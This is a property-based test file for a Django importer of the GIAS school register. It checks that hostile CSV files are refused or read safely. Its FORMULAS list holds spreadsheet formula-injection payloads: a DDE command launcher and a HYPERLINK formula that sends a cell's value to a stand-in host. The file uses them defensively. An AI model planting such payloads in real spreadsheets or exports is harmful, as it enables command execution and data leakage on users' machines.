"""Hostile register files: property-based tests of the GIAS importer.

Whatever bytes arrive, the importer either refuses the whole file with a RegisterFileError
(a clear message, nothing changed) or reads it record by record into valid records and
rejections. It never raises anything else, never yields (or stores) a record the model
forbids, and stores formula-like text (``=cmd|' /C calc'!A0``) as the text it is.

matmis has no CSV export yet, so there is no escaping of formula-like cells to test here:
the export that comes with Analytics must prefix cells starting with ``= + - @`` (and tab
or carriage return) with a quote, and test it.
"""

import codecs
import csv
import datetime
import html
import io
import re
from decimal import Decimal

import pytest
from django.db import transaction
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from institutions.gias import (
    KEY_COLUMNS,
    MAX_LENGTH,
    RegisterFileError,
    Rejection,
    SchoolRecord,
    open_register,
)
from institutions.models import Institution, InstitutionKind, OfstedGrade, Phase, Status
from institutions.register_import import register_import
from tests.conftest import SiteClient
from tests.factories import StaffProfileFactory
from tests.institutions.test_gias_reader import good_row, make_csv, sample_header

HEADER = sample_header()
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://example.test/?x="&A1,"Click")',
    "\t=1+1",
]
# Values that have broken CSV readers and databases before.
NASTY = [
    "",
    " ",
    "SUPP",
    "supp",
    "\x00",
    "a\x00b",
    "line\nbreak",
    "line\r\nbreak",
    "\r",
    '"',
    '""',
    'say "hi"',
    ",",
    "١٢٣٤٥٦",  # Arabic-Indic digits: isdigit() but not ASCII
    "１００００１",  # full-width digits
    "99999999999999999999999999999999",
    "-1",
    "1e3",
    "31-02-2024",
    "00-00-0000",
    "01-01-10000",
    "’",
    "\udcff",  # a lone surrogate (encoded with surrogateescape: a raw undecodable byte)
    "\ufeff",
    "\u2028",
    "ß" * 300,
    "x" * 256,
]
# Raw bytes spliced into a file: undefined cp1252 bytes, BOMs, quotes and line ends.
SPLICED = [b"\x81", b"\x8d", b"\x8f", b"\x90", b"\x9d", b"\x00", b"\xff\xfe", b"\xef\xbb\xbf"]
SPLICED += [b'"', b"\r", b"\n", b",", b"\xc3", b"\xe9", b"\xed\xa0\x80"]

FAST = settings(
    max_examples=120,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

cell = st.one_of(
    st.sampled_from(FORMULAS),
    st.sampled_from(NASTY),
    st.text(max_size=30),
    st.text(alphabet=st.characters(codec="cp1252"), max_size=30),
)
GOOD = good_row()
# The key columns and the dates: a file with only the columns matmis needs.
SHORT_HEADER = [*KEY_COLUMNS, "OpenDate", "CloseDate"]
COLUMNS = [*GOOD, "CloseDate", "Street", "Town", "Postcode", "HeadFirstName", "HeadLastName"]


@st.composite
def rows(draw) -> dict[str, str]:
    """A register row: good values, with up to three of them replaced by hostile ones."""
    row = dict(GOOD)
    row["URN"] = draw(st.sampled_from(["100001", "100002", "100003", "100004"]))
    for column in draw(st.lists(st.sampled_from(COLUMNS), max_size=3)):
        row[column] = draw(cell)
    return row


def csv_text(rows: list[dict[str, str]], header: list[str] = HEADER) -> str:
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows([row.get(column, "") for column in header] for row in rows)
    return out.getvalue()


def encode(text: str, encoding: str) -> bytes:
    if encoding.startswith("utf-16"):
        return text.encode(encoding, errors="surrogatepass")
    if encoding.startswith("utf-8"):
        return text.encode(encoding, errors="surrogateescape")
    return text.encode(encoding, errors="replace")


@st.composite
def register_files(draw, *, damaged: bool = True) -> bytes:
    """A register file built from hostile rows, in some encoding (or several), then (when
    ``damaged``) perhaps cut short and with stray bytes spliced in."""
    header = draw(st.sampled_from([HEADER, SHORT_HEADER]))
    lines = csv_text(draw(st.lists(rows(), min_size=1, max_size=5)), header).split("\r\n")
    encodings = ["utf-8", "utf-8", "utf-8-sig", "cp1252", "cp1252", "latin-1", "utf-16", "mixed"]
    encoding = draw(st.sampled_from(encodings if damaged else ["utf-8", "cp1252"]))
    if encoding == "mixed":
        data = b"\r\n".join(
            encode(line, draw(st.sampled_from(["utf-8", "cp1252"]))) for line in lines
        )
    else:
        data = encode("\r\n".join(lines), encoding)
    # Damage lands in the records mostly (a damaged header is refused: tested above).
    if not damaged:
        return data
    body_starts = draw(st.sampled_from([0, data.find(b"\n") + 1]))
    for _ in range(draw(st.integers(0, 3))):
        at = draw(st.integers(body_starts, len(data)))
        data = data[:at] + draw(st.sampled_from(SPLICED)) + data[at:]
    if draw(st.integers(0, 3)) == 0:
        data = data[: draw(st.integers(body_starts, len(data)))]
    return data


def read(data: bytes) -> list[SchoolRecord | Rejection] | None:
    """What the reader makes of ``data``: its items, or None when it refuses the file."""
    try:
        register = open_register(io.BytesIO(data))
    except RegisterFileError:
        return None
    try:
        return list(register)
    except RegisterFileError:
        return None
    finally:
        register.close()


def storable(text: str) -> bool:
    """PostgreSQL text takes it: no NUL, valid Unicode (no lone surrogates)."""
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return "\x00" not in text


def assert_fits_the_model(record: SchoolRecord) -> None:
    values = record._asdict()
    for field, value in values.items():
        if isinstance(value, str):
            assert storable(value), (field, value)
            assert "\n" not in value and "\r" not in value, (field, value)
            if field in MAX_LENGTH:
                assert len(value) <= MAX_LENGTH[field], field
    assert re.fullmatch(r"[0-9]{6}", record.urn)
    assert re.fullmatch(r"[0-9]{3}", record.la_code)
    assert record.name
    assert record.phase in Phase.values
    assert record.status in Status.values
    assert record.ofsted_grade in ["", *OfstedGrade.values]
    for field, largest in [
        ("statutory_low_age", 32767),
        ("statutory_high_age", 32767),
        ("capacity", 2147483647),
        ("pupils", 2147483647),
    ]:
        if values[field] is not None:
            assert 0 <= int(values[field]) <= largest, field
    if record.percentage_fsm is not None:
        fsm = Decimal(record.percentage_fsm)
        assert 0 <= fsm < 1000 and fsm == fsm.quantize(Decimal("0.1"))
    for field in ("open_date", "close_date", "ofsted_last_inspection"):
        if values[field] is not None:
            datetime.date.fromisoformat(values[field])
    school = Institution(
        kind=InstitutionKind.SCHOOL,
        slug="s",
        **{f: v for f, v in values.items() if f not in {"line", "in_local_authority"}},
    )
    school.clean_fields()


def assert_sound(items: list[SchoolRecord | Rejection] | None) -> None:
    if items is None:
        return
    urns = []
    for item in items:
        assert type(item) in (SchoolRecord, Rejection)
        if type(item) is SchoolRecord:
            assert_fits_the_model(item)
            urns.append(item.urn)
        else:
            # Rejections are kept in a jsonb column and shown on the import page.
            assert storable(item.reason) and storable(item.urn), item
            assert item.line >= 2
    assert len(urns) == len(set(urns)), "a URN was accepted twice"


# --- The reader (no database) -----------------------------------------------------------------


@FAST
@given(st.binary(max_size=3000))
def test_random_bytes_are_refused_or_read_never_crash(data):
    assert_sound(read(data))


@FAST
@given(st.binary(max_size=2000))
def test_random_bytes_after_a_real_header_are_refused_or_read(body):
    assert_sound(read(make_csv([], encoding="cp1252") + body))


@settings(FAST, max_examples=300)
@given(register_files())
def test_hostile_register_files_never_crash_and_never_yield_an_invalid_record(data):
    assert_sound(read(data))


@FAST
@given(st.sampled_from(["utf-16", "utf-16-le", "utf-16-be", "utf-32"]), st.lists(rows()))
def test_utf16_and_utf32_files_are_refused_as_a_whole(encoding, hostile_rows):
    data = encode(csv_text([good_row(), *hostile_rows]), encoding)
    if encoding in ("utf-16-le", "utf-16-be"):
        data = codecs.BOM_UTF16_LE + data if encoding.endswith("le") else data
    assert read(data) is None


@FAST
@given(rows(), st.sampled_from(SPLICED[:5]))
def test_undefined_cp1252_bytes_reject_their_record_only(row, undefined):
    # A cp1252 file (an é in a good record) whose other record carries an undefined byte.
    # The hostile record is kept to ASCII: cp1252 text that happens to be valid UTF-8 (such
    # as "Ã©") makes the whole file read as UTF-8, by design.
    good = good_row(URN="100009", EstablishmentName="École Oak")
    row = {column: value.encode("ascii", "replace").decode() for column, value in row.items()}
    data = encode(csv_text([good, {**row, "Town": "Leeds"}]), "cp1252")
    data = data.replace(b"Leeds", b"Le" + undefined + b"ds")
    items = read(data)
    assert_sound(items)
    assert items is not None
    [first] = [i for i in items if isinstance(i, SchoolRecord) and i.urn == "100009"]
    assert first.name == "École Oak"
    assert not any(isinstance(i, SchoolRecord) and i.line == 3 for i in items)


def test_a_one_megabyte_name_refuses_the_file_with_a_clear_message():
    data = make_csv([good_row(URN="100001", EstablishmentName="A" * 1_000_000), good_row()])
    with pytest.raises(RegisterFileError, match="Line 2 cannot be read as CSV"):
        list(open_register(io.BytesIO(data)))


def test_a_name_just_under_the_csv_limit_rejects_its_record_only():
    data = make_csv(
        [good_row(URN="100001", EstablishmentName="A" * 100_000), good_row(URN="100002")]
    )
    items = read(data)
    assert [type(i) for i in items] == [Rejection, SchoolRecord]
    assert "EstablishmentName is longer than 255 characters" in items[0].reason


def test_a_record_hidden_in_an_oversized_quoted_value_is_never_read_as_a_record():
    # Past the csv module's field limit the reader loses its place: the lines of the quoted
    # value must not come back as records of their own.
    smuggled = make_csv([good_row(URN="100099", EstablishmentName="Smuggled")]).split(b"\r\n")[1]
    name = "A" * 200_000 + "\r\n" + smuggled.decode("cp1252")
    data = make_csv([good_row(URN="100001", EstablishmentName=name), good_row(URN="100002")])
    assert read(data) is None


# --- The write path (database) ----------------------------------------------------------------


def run_and_roll_back(data: bytes) -> tuple[list | None, list[dict]]:
    """Import ``data`` in a savepoint; return the rejections (None: refused) and the schools
    stored, then undo it all so the next example starts from the same database."""
    with transaction.atomic():
        try:
            result = register_import(stream=io.BytesIO(data), today=datetime.date(2026, 9, 1))
        except RegisterFileError:
            rejected = None
        else:
            rejected = result.rejected
        stored = list(Institution.objects.values())
        transaction.set_rollback(True)
    return rejected, stored


@pytest.mark.django_db
@settings(
    FAST,
    max_examples=60,
    suppress_health_check=[*FAST.suppress_health_check, HealthCheck.function_scoped_fixture],
)
@given(data=st.one_of(register_files(damaged=False), register_files()))
def test_importing_hostile_files_stores_only_what_the_reader_accepts(data):
    items = read(data)
    rejected, stored = run_and_roll_back(data)
    if items is None:
        event("refused")
        assert rejected is None
        assert stored == []
        return
    records = [i for i in items if isinstance(i, SchoolRecord)]
    event("schools stored" if records else "no school stored")
    schools = [row for row in stored if row["kind"] == InstitutionKind.SCHOOL]
    assert sorted(s["urn"] for s in schools) == sorted(r.urn for r in records)
    assert rejected == [i for i in items if isinstance(i, Rejection)]
    for row in stored:
        fields = {k: v for k, v in row.items() if k not in {"id", "search_name"}}
        Institution(**fields).clean_fields()
        assert re.fullmatch(r"[a-z0-9]([a-z0-9-]*[a-z0-9])?", row["slug"]), row["slug"]
        assert len(row["slug"]) <= 63


@pytest.mark.django_db
def test_a_file_refused_midway_changes_nothing():
    data = make_csv(
        [good_row(URN="100001"), good_row(URN="100002", EstablishmentName="A" * 1_000_000)]
    )
    with pytest.raises(RegisterFileError):
        register_import(stream=io.BytesIO(data))
    assert not Institution.objects.exists()


# --- Formula-like cells are text -----------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("formula", FORMULAS[:5])
def test_formula_like_values_are_stored_and_shown_as_the_text_they_are(formula):
    row = good_row(
        URN="100001",
        EstablishmentName=formula,
        Street=formula,
        Town=formula[:100],
        HeadLastName=formula,
        **{"Trusts (name)": formula},
    )
    result = register_import(stream=io.BytesIO(make_csv([row], encoding="utf-8")))
    assert (result.created, result.rejected) == (1, [])
    school = Institution.objects.get(urn="100001")
    trust = Institution.objects.get(kind=InstitutionKind.TRUST, group_code="3001")
    assert [school.name, school.street, school.town, school.head_last_name, trust.name] == [
        formula.strip()
    ] * 5

    client = SiteClient(trust)
    client.force_login(StaffProfileFactory(site=trust).user)
    page = client.get("/institutions/100001/")
    assert page.status_code == 200
    assert html.escape(formula.strip()) in page.content.decode()
    api = client.get("/api/v1/institutions/100001/")
    assert api.json()["name"] == formula.strip()
